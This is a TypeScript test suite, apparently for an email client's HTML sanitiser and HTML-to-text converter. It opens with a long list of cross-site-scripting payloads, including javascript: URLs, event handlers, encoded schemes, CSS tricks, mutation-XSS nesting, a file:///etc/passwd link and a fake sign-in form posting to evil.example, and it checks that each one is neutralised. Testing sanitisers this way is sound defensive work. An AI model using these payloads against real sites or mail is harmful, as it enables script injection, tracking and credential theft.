import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { htmlToText } from './html-to-text.ts';
import { safeHtml } from './safe-html.ts';

/** Ways of running something that filters have been passed with, and ways of fetching something. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="&#x6A;avascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://x.example/" onclick="alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width: expression(alert(1))">',
  '<div style="width: exp/**/ression(alert(1))">',
  '<div style="behavior: url(x.htc)">',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">',
  '<div style="background:\\75rl(https://evil.example/x)">',
  '<div style="color: red; background-image: url(\'https://evil.example/t.gif\')">',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<video src=x onerror=alert(1) poster="https://evil.example/p"></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="https://evil.example/a"></audio>',
  '<picture><source srcset="https://evil.example/a"><img srcset="https://evil.example/b 2x"></picture>',
  '<input type=image src="https://evil.example/a" onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="https://evil.example/t.gif"><td background=javascript:alert(1)>',
  '<p title="\'&quot;&gt;<img src=x onerror=alert(1)>">x</p>',
  '<a title="`" href="https://x.example/`onmouseover=alert(1)">x</a>',
  '<x onclick=alert(1)>x</x>',
  '<img src="https://evil.example/track.gif?anna">',
  '<img src="//evil.example/track.gif">',
  '<img src="\\\\evil.example/track.gif">',
  '<img src="http:\\\\evil.example">',
  '<plaintext><script>alert(1)</script>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<p id=location name=cookie class=x>clobbered</p>',
  '<img src=x:alert(1) onerror=eval(src)>',
  "<div/onmouseover='alert(1)'>x",
  '<br size="&{alert(1)}">',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
];

const elements =
  /^(?:a|b|big|blockquote|br|center|code|dd|del|details|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|li|ol|p|pre|q|s|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|\w{2,10})$/;

/** Reads it as a browser would begin to, and says what is wrong with it. */
function faults(html: string, remote = false): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (
        /^(?:script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|noscript|video|audio|source|frame|textarea|select)$/.test(
          name,
        ) ||
        !elements.test(name)
      )
        found.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^(?:on|form|xlink|srcdoc|srcset|action|background|id$|name$|class$)/.test(key))
          found.push(`${name} ${key}`);
        if (key === 'style' && /url|expression|@|\\|position|behavior|binding|script/i.test(value))
          found.push(`style ${value}`);
        const allowed = remote ? /^(?:cid:|https?:\/\/|data:image\/png;)/ : /^(?:cid:|data:image\/png;)/;
        if (key === 'src' && !allowed.test(value)) found.push(`src ${value}`);
        if (key === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`);
      }
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: () => found.push('instruction'),
  });
  parser.write(html);
  parser.end();
  return found;
}

describe('safeHtml', () => {
  it.each(attacks)('takes the harm out of %s', (attack) => {
    expect(faults(safeHtml(attack).html)).toEqual([]);
    expect(faults(safeHtml(attack, { remoteImages: 'allow' }).html, true)).toEqual([]);
    // What it leaves is left as it is when it is done again.
    const once = safeHtml(`before ${attack}`).html;
    expect(safeHtml(once).html).toBe(once);
  });

  it('would find the harm, were it left', () => {
    expect(faults('<img src=x onerror=alert(1)>')).toEqual(['src x', 'img onerror']);
    expect(faults('<a href="javascript:alert(1)">')).toHaveLength(1);
  });

  it('takes it out of whatever these are mixed into', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '<!--',
        '-->',
        '&',
        '&#x',
        'style=',
        ' on',
        '\0',
        '<a ',
        '<p>',
        '`',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const { html } = safeHtml(pieces.join(''));
        expect(faults(html)).toEqual([]);
        expect(faults(safeHtml(html).html)).toEqual([]);
      }),
    );
  });

  it('blocks remote images, counts them, and allows them when told', () => {
    const html =
      '<img src="https://a.example/1.png" alt="One"><table background="http://a.example/2.png"><td style="background: url(//a.example/3.png); color: red">x</td></table>';
    const blocked = safeHtml(html);
    expect(blocked.blockedImages).toBe(3);
    expect(blocked.html).toContain('alt="One"');
    expect(blocked.html).toContain('style="color: red"');
    expect(blocked.html).not.toContain('a.example');
    expect(safeHtml(html, { remoteImages: 'allow' }).html).toContain('src="https://a.example/1.png"');
  });

  it('shows inline images by their Content-ID when it is given them', () => {
    const html = '<img src="cid:logo%40x">';
    expect(safeHtml(html).html).toBe('<img src="cid:logo@x">');
    const inlineImages = new Map([['logo@x', 'data:image/png;base64,AAAA']]);
    expect(safeHtml(html, { inlineImages }).html).toBe('<img src="data:image/png;base64,AAAA">');
  });

  it('holds no control character, which a terminal would obey', () => {
    const { html } = safeHtml('<p title="&#27;]0;x&#7;">&#27;[2J a&#x9b;b\u001b[31m\r\n\tc</p>');
    expect(html).toBe('<p title="\ufffd]0;x\ufffd">\ufffd[2J a›b\ufffd[31m\r\n\tc</p>');
  });

  it('lets a link be seen for what it is', () => {
    const { html } = safeHtml(
      '<a href="https://evil.example/" title="https://bank.example/">https://bank.example/</a>',
    );
    expect(html).toContain('title="https://evil.example/"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('keeps how it looks', () => {
    const html =
      '<table width="600" cellpadding="4"><tr><td align="right" bgcolor="#eee" style="font-family: \'Segoe UI\', Arial; border: 1px solid rgb(1, 2, 3)"><b>3,50&nbsp;€</b></td></tr></table>';
    const { html: safe } = safeHtml(html);
    expect(safe).toContain('bgcolor="#eee"');
    expect(safe).toContain('border: 1px solid rgb(1, 2, 3)');
    expect(safe).toContain('<b>3,50\u00a0€</b>');
  });

  it('is done with what is nested without end', () => {
    expect(safeHtml('<div>'.repeat(20_000)).html.length).toBeLessThan(10_000);
  });
});

describe('htmlToText', () => {
  it('reads as text that a person would have written', async () => {
    const html = [
      '<style>p { color: red }</style><div style="display:none">shown in lists only</div>',
      '<h1>Hello</h1><p>Look <a href="https://x.example/?a=1&amp;b=2">here</a> or at <a href="https://y.example/">https://y.example/</a>.</p>',
      '<ul><li>one</li><li>two<ol><li>deep</li></ol></li></ul><blockquote>They said<br>so.</blockquote>',
      '<table border=1><tr><th>Name</th><th>Count</th></tr><tr><td>Apples</td><td>3</td></tr></table>',
      '<table><tr><td>left</td><td>right</td></tr></table><img src="x" alt="Logo"><script>no</script>',
    ].join('');
    expect(await htmlToText(html)).toBe(
      [
        'Hello',
        '',
        'Look here <https://x.example/?a=1&b=2> or at https://y.example/.',
        '',
        ' * one',
        ' * two',
        '   1. deep',
        '',
        '> They said',
        '> so.',
        '',
        'Name    Count',
        'Apples  3',
        '',
        'left right',
        '',
        '[Logo]',
      ].join('\n'),
    );
  });
});
